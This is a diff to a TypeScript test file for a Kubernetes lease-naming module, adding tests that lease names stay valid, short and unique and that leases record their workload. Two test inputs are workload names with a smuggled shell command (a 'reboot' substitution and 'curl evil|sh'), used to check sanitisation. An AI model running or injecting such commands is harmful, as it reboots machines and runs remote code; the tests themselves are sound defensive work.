@@ -8,8 +8,11 @@ import {
   newLease,
   released,
   takenOver,
+  workloadOf,
 } from "../../../functions/run/lease.ts";
 import type { HistoryEntry } from "../../../functions/run/contracts.ts";
+import { MAX_OBJECT_NAME, OBJECT_NAME } from "../../../functions/shared/kubernetes/names.ts";
+import type { WorkloadRef } from "../../../functions/shared/refs.ts";
 import { ago, NOW, WEB } from "../../support/objects.ts";
 
 const later = (seconds: number) => new Date(NOW.getTime() + seconds * 1_000);
@@ -18,6 +21,39 @@ describe("the lease", () => {
   it("is named after its workload", () => {
     expect(leaseName(WEB)).toBe("deployment.shop.web");
   });
+
+  it("keeps the name that it has for a kind of Kubernetes, and none of another kind has that", () => {
+    const builtIn = ["Pod", "StatefulSet", "DaemonSet", "ReplicaSet", "Job", "CronJob"].map((kind) => ({
+      ...WEB,
+      kind,
+    }));
+    const others: WorkloadRef[] = [
+      { ...WEB, group: "example.com" },
+      { ...WEB, group: "example.org" },
+      { ...WEB, kind: "deployment" },
+      { ...WEB, kind: "Deployment.shop", namespace: "web", name: "web" },
+      { ...WEB, name: "Web" },
+      { ...WEB, name: "x `reboot`; curl evil|sh #" },
+      { ...WEB, name: "x `reboot`; curl evil|sh  #" },
+      { ...WEB, kind: "💥", name: "💥".repeat(200) },
+    ];
+    const names = [...builtIn, ...others].map(leaseName);
+
+    expect(names.slice(0, 2)).toEqual(["pod.shop.web", "statefulset.shop.web"]);
+    expect(new Set([...names, leaseName(WEB)]).size).toBe(names.length + 1);
+    for (const name of names) {
+      expect(name).toMatch(OBJECT_NAME);
+      expect(name.length).toBeLessThanOrEqual(MAX_OBJECT_NAME);
+    }
+    for (const name of names.slice(builtIn.length)) expect(name).not.toContain(".");
+  });
+
+  it.each([WEB, { kind: "Rollout", group: "argoproj.io", namespace: "shop", name: "web" }])(
+    "says which workload it stands for: $kind",
+    (workload) => {
+      expect(workloadOf(newLease(workload, "run-1", 60, NOW))).toEqual(workload);
+    },
+  );
 
   it("keeps two long names apart that are equal where they are cut", () => {
     const long = (end: string) =>
